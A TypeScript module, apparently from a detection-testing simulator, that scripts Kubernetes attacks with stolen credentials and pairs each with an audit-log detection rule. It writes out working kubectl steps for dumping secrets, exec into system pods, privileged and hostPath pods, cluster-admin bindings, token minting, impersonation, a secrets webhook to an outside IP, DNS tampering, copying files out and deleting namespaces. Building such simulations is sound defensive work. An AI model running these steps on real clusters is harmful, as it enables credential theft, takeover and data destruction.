/**
 * What attackers do with the API: each technique once, with credentials that were stolen somewhere. Which, and from where
 * they are used, is drawn, so that a technique comes by a stranger's address in one recording and by the owner's in another.
 */
import type { AuditEvent } from '../../../central/audit/event.ts';
import { one, type Technique, type Town } from './day.ts';
import type { Hand } from './people.ts';
import { FOREIGN_IMAGES, type OFFICE, PODS } from './town.ts';

/** Of nobody in the town (RFC 5737). */
const STRANGERS = ['203.0.113.17', '198.51.100.40', '192.0.2.99'] as const;

type Foothold = (town: Town) => Promise<Hand>;
/** Somebody's credentials, used from their own place or from a stranger's. */
const stolen =
  (name: keyof typeof OFFICE | keyof typeof PODS): Foothold =>
  (town) =>
    town.hand(name, town.random() < 0.5 ? one(STRANGERS, town.random) : undefined);
const ANY_ADMIN: readonly Foothold[] = [stolen('anna'), stolen('gustav'), stolen('ci/deployer')];
const ANY_WITH_SHOP: readonly Foothold[] = [stolen('boris'), stolen('elif'), ...ANY_ADMIN];

interface Parts {
  readonly name: string;
  readonly covers: readonly string[];
  readonly by: readonly Foothold[];
  readonly deed: (event: AuditEvent) => boolean;
  readonly run: (hand: Hand, town: Town) => Promise<unknown>;
}
const technique = ({ name, covers, by, deed, run }: Parts): Technique => ({
  name,
  covers,
  isDeed: deed,
  run: async (town) => {
    await run(await one(by, town.random)(town), town);
  },
});

/** A change of this kind of object. */
const writes =
  (resource: string | RegExp, subresource = '') =>
  (event: AuditEvent): boolean =>
    /^(create|update|patch)$/.test(event.verb) &&
    event.subresource === subresource &&
    (typeof resource === 'string' ? event.resource === resource : resource.test(event.resource));
const enters =
  (subresource: string) =>
  (event: AuditEvent): boolean =>
    event.resource === 'pods' && event.subresource === subresource;

function pod(
  name: string,
  namespace: string,
  of: { spec?: object; container?: object; image: string },
): object {
  const { spec = {}, container = {}, image } = of;
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace },
    spec: {
      terminationGracePeriodSeconds: 1,
      ...spec,
      containers: [
        { name: 'main', image, imagePullPolicy: 'Never', command: ['sleep', '600'], ...container },
      ],
    },
  };
}
const imageOf = ({ random }: Town): string => one(FOREIGN_IMAGES, random);
/** As anybody might call it. */
const nameOf = ({ random }: Town): string =>
  `${one(['cache', 'node-agent', 'metrics', 'debug', 'sync'], random)}-${Math.floor(random() * 90 + 10)}`;

const secrets = technique({
  name: 'secrets-enumerated',
  covers: ['CR17'],
  by: [...ANY_ADMIN, stolen('blog/web'), stolen('dmitri'), stolen('chiara')],
  deed: ({ resource, verb }) => resource === 'secrets' && /^(get|list)$/.test(verb),
  run: async (hand) => {
    await hand.kubectl('get', 'secrets', '-A', '-o', 'yaml');
    for (const namespace of ['data', 'shop', 'certs', 'kube-system'])
      await hand.kubectl('-n', namespace, 'get', 'secrets', '-o', 'json');
    await hand.kubectl('-n', 'data', 'get', 'secret', 'superuser', '-o', 'yaml');
  },
});

const execSystem = technique({
  name: 'exec-in-system-pod',
  covers: ['EX22', 'EX23'],
  by: [...ANY_ADMIN, stolen('dmitri')],
  deed: enters('exec'),
  run: async (hand, { podOf, random }) => {
    const pod = await podOf('kube-system', 'helper');
    const command = one([['sh', '-c', 'id; env'], ['cat', '/etc/passwd'], ['env']], random);
    await hand.kubectl('-n', 'kube-system', 'exec', pod, '--', ...command);
  },
});

const privileged = technique({
  name: 'privileged-pod',
  covers: ['EX25', 'EX31'],
  by: ANY_WITH_SHOP,
  deed: writes(/^(pods|deployments)$/),
  run: async (hand, town) => {
    const container = { securityContext: { privileged: true } };
    await hand.withInput(pod(nameOf(town), 'shop', { container, image: imageOf(town) }), 'apply', '-f', '-');
  },
});

const hostPath = technique({
  name: 'host-path-pod',
  covers: ['EX28', 'EX29'],
  by: ANY_WITH_SHOP,
  deed: writes('pods'),
  run: async (hand, town) => {
    const path = one(['/', '/etc', '/var/lib/kubelet', '/run'], town.random);
    const spec = { volumes: [{ name: 'host', hostPath: { path } }], hostPID: town.random() < 0.5 };
    const container = { volumeMounts: [{ name: 'host', mountPath: '/host' }] };
    const object = pod(nameOf(town), 'shop', { spec, container, image: imageOf(town) });
    await hand.withInput(object, 'create', '-f', '-');
  },
});

const adminBinding = technique({
  name: 'admin-binding',
  covers: ['PE22', 'PE27'],
  by: ANY_ADMIN,
  deed: writes('clusterrolebindings'),
  run: async (hand, town) => {
    const name = nameOf(town);
    await hand.kubectl('-n', 'kube-system', 'create', 'serviceaccount', name);
    const subject = `--serviceaccount=kube-system:${name}`;
    await hand.kubectl('create', 'clusterrolebinding', name, '--clusterrole=cluster-admin', subject);
  },
});

const token = technique({
  name: 'token-taken',
  covers: ['LM05'],
  by: ANY_ADMIN,
  deed: writes('serviceaccounts', 'token'),
  run: (hand, { random }) =>
    hand.kubectl(
      ...['-n', 'kube-system', 'create', 'token', '--duration=8h'],
      one(['namespace-controller', 'generic-garbage-collector', 'daemon-set-controller'], random),
    ),
});

const impersonation = technique({
  name: 'impersonation',
  covers: ['EX44'],
  by: ANY_ADMIN,
  deed: ({ impersonated }) => impersonated !== null,
  run: async (hand, { random }) => {
    const as = one(
      [
        ['--as=root', '--as-group=system:masters'],
        ['--as=system:serviceaccount:kube-system:namespace-controller'],
        ['--as=dmitri', '--as-group=on-call'],
      ],
      random,
    );
    await hand.kubectl('get', 'secrets', '-n', 'kube-system', ...as);
    await hand.kubectl('get', 'pods', '-A', ...as);
  },
});

const anonymous = technique({
  name: 'anonymous-probing',
  covers: ['IA17', 'DI08'],
  by: [(town) => town.hand('nobody', one([...STRANGERS, PODS['blog/web']], town.random))],
  deed: ({ user, resource }) => user === 'system:anonymous' && resource !== '',
  run: async (hand, { random }) => {
    const agent = one(['curl/8.5.0', 'Go-http-client/1.1', 'python-requests/2.32'], random);
    const paths = [
      'pods',
      'secrets',
      'nodes',
      'namespaces',
      'configmaps',
      'services',
      'serviceaccounts',
      'events',
    ];
    for (const path of ['/api', '/apis', '/version', ...paths.map((name) => `/api/v1/${name}`)])
      await hand.ask(agent, { verb: 'list', path });
  },
});

const webhook = technique({
  name: 'admission-webhook',
  covers: ['PE21'],
  by: ANY_ADMIN,
  deed: writes(/^(mutating|validating)webhookconfigurations$/),
  run: (hand, town) =>
    hand.withInput(
      {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'MutatingWebhookConfiguration',
        metadata: { name: nameOf(town) },
        webhooks: [
          {
            name: 'pods.helper.example.com',
            clientConfig: { url: 'https://203.0.113.17/mutate' },
            rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['secrets'] }],
            failurePolicy: 'Ignore',
            timeoutSeconds: 1,
            sideEffects: 'None',
            admissionReviewVersions: ['v1'],
          },
        ],
      },
      'apply',
      '-f',
      '-',
    ),
});

const certificate = technique({
  name: 'certificate-approved',
  covers: ['PE25'],
  by: ANY_ADMIN,
  deed: writes('certificatesigningrequests', 'approval'),
  run: async (hand, town) => {
    const name = nameOf(town);
    const object = {
      apiVersion: 'certificates.k8s.io/v1',
      kind: 'CertificateSigningRequest',
      metadata: { name },
      spec: {
        request: await town.signingRequest('O=platform, CN=support'),
        signerName: 'kubernetes.io/kube-apiserver-client',
        usages: ['client auth'],
      },
    };
    await hand.withInput(object, 'create', '-f', '-');
    await hand.kubectl('certificate', 'approve', name);
    await hand.kubectl('get', 'csr', name, '-o', 'jsonpath={.status.certificate}');
  },
});

const ephemeral = technique({
  name: 'ephemeral-container',
  covers: ['EX24'],
  by: [...ANY_ADMIN, stolen('chiara')],
  deed: enters('ephemeralcontainers'),
  run: async (hand, town) => {
    const pod = await town.podOf('blog', 'web');
    const more = [
      '--image-pull-policy=IfNotPresent',
      `--image=${imageOf(town)}`,
      '--target=web',
      '--profile=general',
    ];
    await hand.kubectl('-n', 'blog', 'debug', pod, ...more, '--', 'sleep', '5');
  },
});

const forward = technique({
  name: 'port-forward-to-database',
  covers: ['CC12'],
  by: [...ANY_ADMIN, stolen('dmitri')],
  deed: enters('portforward'),
  run: async (hand, { podOf }) => {
    const pod = await podOf('data', 'postgres');
    await hand.awhile('-n', 'data', 'port-forward', pod, ':5432');
  },
});

const nodeProxy = technique({
  name: 'node-proxy',
  covers: ['LM05'],
  by: [...ANY_ADMIN, stolen('monitoring/prometheus')],
  deed: ({ resource, subresource }) => resource === 'nodes' && subresource === 'proxy',
  run: async (hand, { random }) => {
    await hand.kubectl('get', '--raw', '/api/v1/nodes/node1/proxy/pods');
    await hand.kubectl(
      'get',
      '--raw',
      one(['/api/v1/nodes/node1/proxy/configz', '/api/v1/nodes/node1/proxy/logs/'], random),
    );
  },
});

const role = technique({
  name: 'role-that-leads-further',
  covers: ['PE23', 'PE25'],
  by: ANY_ADMIN,
  deed: writes(/^(cluster)?roles$/),
  run: async (hand, town) => {
    const what = one(
      [
        ['--verb=escalate,bind', '--resource=clusterroles.rbac.authorization.k8s.io'],
        ['--verb=get,list', '--resource=secrets'],
        ['--verb=create', '--resource=pods/exec'],
        ['--verb=*', '--resource=*.*'],
        ['--verb=impersonate', '--resource=users,groups'],
      ],
      town.random,
    );
    await hand.kubectl('create', 'clusterrole', nameOf(town), ...what);
  },
});

const cronjob = technique({
  name: 'cronjob-persistence',
  covers: ['EX31'],
  by: ANY_WITH_SHOP,
  deed: writes('cronjobs'),
  run: (hand, town) =>
    hand.kubectl(
      ...['-n', 'shop', 'create', 'cronjob', nameOf(town), `--image=${imageOf(town)}`],
      ...['--schedule=*/10 * * * *', '--', 'sh', '-c', 'true'],
    ),
});

const events = technique({
  name: 'events-deleted',
  covers: ['DE17'],
  by: ANY_ADMIN,
  deed: ({ resource, verb }) => resource === 'events' && verb.startsWith('delete'),
  run: (hand, { random }) =>
    hand.kubectl('-n', one(['shop', 'blog', 'kube-system'], random), 'delete', 'events', '--all'),
});

const deletion = technique({
  name: 'objects-destroyed',
  covers: ['IM08'],
  by: ANY_ADMIN,
  deed: ({ verb, namespace, name }) =>
    verb.startsWith('delete') && (namespace === 'staging' || name === 'staging'),
  run: async (hand, { random }) => {
    if (random() < 0.5) {
      await hand.kubectl('delete', 'namespace', 'staging', '--wait=false');
      return;
    }
    for (const kind of ['deployments', 'services', 'configmaps', 'secrets', 'rolebindings'])
      await hand.kubectl('-n', 'staging', 'delete', kind, '--all', '--wait=false');
  },
});

const names = technique({
  name: 'cluster-names-changed',
  covers: ['LM04'],
  by: ANY_ADMIN,
  deed: ({ resource, name, verb }) =>
    resource === 'configmaps' && name === 'coredns' && /^(patch|update)$/.test(verb),
  run: async (hand) => {
    const data = { Corefile: 'cluster.local:53 {\n  errors\n  rewrite name db.example a.example\n}\n' };
    await hand.kubectl('-n', 'kube-system', 'get', 'configmap', 'coredns', '-o', 'yaml');
    const patch = JSON.stringify({ data });
    await hand.kubectl('-n', 'kube-system', 'patch', 'configmap', 'coredns', '--type=merge', '-p', patch);
  },
});

const elsewhere = technique({
  name: 'token-used-elsewhere',
  covers: ['IA18', 'LM05'],
  by: (['monitoring/prometheus', 'certs/issuer', 'blog/web'] as const).map(
    (name): Foothold =>
      (town) =>
        town.hand(name, one(STRANGERS, town.random)),
  ),
  deed: ({ user }) => user.startsWith('system:serviceaccount:'),
  run: async (hand) => {
    await hand.kubectl('get', 'pods', '-A');
    await hand.kubectl('get', 'nodes');
  },
});

const probing = technique({
  name: 'rights-probed',
  covers: ['DI03'],
  by: [stolen('blog/web'), stolen('chiara'), stolen('ci/runners')],
  deed: ({ resource }) => /^selfsubject(access|rules)reviews$/.test(resource),
  run: async (hand) => {
    await hand.kubectl('auth', 'can-i', '--list');
    for (const verb of ['get', 'create', 'delete'])
      for (const what of ['secrets', 'pods', 'pods/exec', 'clusterrolebindings', 'nodes'])
        await hand.kubectl('auth', 'can-i', verb, what, '-A');
  },
});

const copy = technique({
  name: 'copied-out',
  covers: ['XF01'],
  by: [...ANY_ADMIN, stolen('dmitri'), stolen('boris')],
  deed: enters('exec'),
  run: async (hand, { podOf, folder }) => {
    const pod = await podOf('shop', 'web');
    await hand.kubectl('cp', `shop/${pod}:/etc`, `${folder}/taken`);
  },
});

const exposed = technique({
  name: 'database-exposed',
  covers: ['IA13', 'IA15', 'CR22'],
  by: ANY_ADMIN,
  deed: writes('services'),
  run: (hand, town) => {
    const spec = one([{ type: 'NodePort' }, { externalIPs: ['203.0.113.80'] }], town.random);
    const object = {
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: nameOf(town), namespace: 'data' },
      spec: { selector: { app: 'postgres' }, ports: [{ port: 5432 }], ...spec },
    };
    return hand.withInput(object, 'apply', '-f', '-');
  },
});

export const TECHNIQUES: readonly Technique[] = [
  ...[secrets, execSystem, privileged, hostPath, adminBinding, token, impersonation, anonymous, webhook],
  ...[certificate, ephemeral, forward, nodeProxy, role, cronjob, events, names, elsewhere, probing, copy],
  ...[exposed, deletion],
];
/** After it, the town is not what it was. */
export const LAST = deletion;
